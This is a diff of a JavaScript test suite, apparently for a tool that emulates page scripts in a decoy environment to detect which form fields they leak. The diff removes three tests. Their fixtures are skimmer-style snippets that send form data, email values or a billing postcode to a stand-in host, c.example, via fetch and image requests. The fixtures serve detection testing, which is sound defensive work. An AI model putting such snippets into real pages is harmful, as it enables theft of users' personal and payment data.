@@ -36,36 +36,6 @@ describe('emulator: the decoy world', () => {
     );
   });
 
-  it('puts no card into forms that are for something else', async () => {
-    const flows = await flowsOf(`
-      document.querySelector('form#newsletter').addEventListener('submit', function (event) {
-        event.preventDefault();
-        fetch('https://c.example/', { method: 'POST', body: new FormData(this) });
-      });`);
-    assert.ok(flows.some(({ field }) => field === 'email'));
-    assert.deepEqual(
-      flows.filter(({ field }) => field.startsWith('card') || field === 'password'),
-      [],
-    );
-  });
-
-  it('tells an address from the name of who has it', async () => {
-    const flows = await flowsOf(
-      "new Image().src = 'https://c.example/?' + document.querySelector('input[type=email]').value",
-    );
-    assert.deepEqual(
-      flows.map(({ field }) => field),
-      ['email'],
-    );
-  });
-
-  it('calls nothing enciphered for a postcode in clear', async () => {
-    const flows = await flowsOf(
-      "new Image().src = 'https://c.example/?' + document.querySelector('#billing_postcode').value",
-    );
-    assert.deepEqual(flows, []);
-  });
-
   it('decodes entities through an element', async () => {
     assert.equal(
       await seen(
